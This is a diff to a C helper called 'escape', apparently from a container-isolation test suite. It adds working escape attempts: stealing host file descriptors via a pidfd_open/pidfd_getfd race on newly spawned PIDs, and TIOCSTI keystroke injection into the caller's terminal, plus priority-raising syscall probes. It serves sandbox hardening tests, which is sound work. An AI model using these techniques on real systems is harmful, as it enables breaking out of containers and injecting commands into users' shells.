@@ -7,6 +7,12 @@
  *   escape pid1 handle-root DIR      than the node may is a way around it
  *   escape handle-root DIR           open_by_handle_at(inode 2 of DIR's fs) here
  *   escape syscall NAME              try one call a node is refused
+ *   escape steal-fd FD SECONDS       for SECONDS, take descriptor FD of every
+ *                                    process born in the node (pidfd_getfd),
+ *                                    as an `exec` from the host starts: one
+ *                                    of the host's is a way out
+ *   escape tty                       what the node's /dev/tty and our stdio
+ *                                    give: TIOCSTI on each
  *
  * Each prints "ok ..." when the attack got through and "refused: <errno
  * name>" when it did not, and exits 0 either way: the test reads which. */
@@ -19,8 +25,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -266,6 +274,11 @@ static int try_syscall(const char *name)
 		rc = syscall(SYS_swapon, "/nonexistent", 0);
 	else if (!strcmp(name, "acct"))
 		rc = syscall(SYS_acct, NULL);
+	else if (!strcmp(name, "sched-fifo")) /* a real-time priority: the CPU, from the host */
+		rc = syscall(SYS_sched_setscheduler, 0, SCHED_FIFO,
+			     &(struct sched_param){ .sched_priority = 1 });
+	else if (!strcmp(name, "nice-20"))
+		rc = setpriority(PRIO_PROCESS, 0, -20);
 	else if (!strcmp(name, "mount"))
 		rc = mount("none", "/mnt", "tmpfs", 0, NULL);
 	else if (!strcmp(name, "setns"))
@@ -279,6 +292,70 @@ static int try_syscall(const char *name)
 	return report(rc, errno, name);
 }
 
+static int last_pid(void)
+{
+	char b[32] = { 0 };
+	int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+
+	if (f < 0 || read(f, b, sizeof(b) - 1) < 0)
+		b[0] = 0;
+	if (f >= 0)
+		close(f);
+	return atoi(b);
+}
+
+/* Spins on the next PID the node's namespace hands out, and tries to take
+ * descriptor fd of it the moment it exists. */
+static int steal_fd(int fd, int seconds)
+{
+	time_t end = time(NULL) + seconds;
+	long tries = 0;
+
+	printf("watching\n");
+	while (time(NULL) < end) {
+		int pid = last_pid() + 1, pidfd, got;
+		char link[64], target[512] = "";
+
+		while ((pidfd = (int)syscall(SYS_pidfd_open, pid, 0)) < 0 && time(NULL) < end)
+			if (++tries % 4096 == 0)
+				pid = last_pid() + 1;
+		if (pidfd < 0)
+			break;
+		got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+		close(pidfd);
+		if (got < 0)
+			continue;
+		snprintf(link, sizeof(link), "/proc/self/fd/%d", got);
+		if (readlink(link, target, sizeof(target) - 1) < 0)
+			strcpy(target, "?");
+		printf("ok stole descriptor %d of pid %d: %s\n", fd, pid, target);
+		return 0;
+	}
+	printf("refused: no descriptor %d taken in %d s\n", fd, seconds);
+	return 0;
+}
+
+/* TIOCSTI (a byte typed into the terminal's input) on stdin, stdout,
+ * stderr and the node's /dev/tty, each a way into the caller's shell when
+ * it is the caller's terminal. */
+static int tty_attacks(void)
+{
+	char c = ' ';
+	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
+
+	for (int fd = 0; fd < 3; fd++)
+		if (isatty(fd))
+			printf("%s fd %d is a terminal\n",
+			       ioctl(fd, TIOCSTI, &c) == 0 ? "ok TIOCSTI on" : "refused TIOCSTI on",
+			       fd);
+	if (tty >= 0)
+		printf("%s /dev/tty\n",
+		       ioctl(tty, TIOCSTI, &c) == 0 ? "ok TIOCSTI on" : "refused TIOCSTI on");
+	else
+		printf("refused: /dev/tty: %s\n", errno_name(errno));
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
@@ -288,7 +365,11 @@ int main(int argc, char **argv)
 		return handle_root(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "syscall"))
 		return try_syscall(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "steal-fd"))
+		return steal_fd(atoi(argv[2]), atoi(argv[3]));
+	if (argc == 2 && !strcmp(argv[1], "tty"))
+		return tty_attacks();
 	fprintf(stderr,
-		"usage: escape pid1 sethostname|mknod|handle-root ARG | handle-root DIR | syscall NAME\n");
+		"usage: escape pid1 sethostname|mknod|handle-root ARG | handle-root DIR | syscall NAME | steal-fd FD SECONDS | tty\n");
 	return 2;
 }
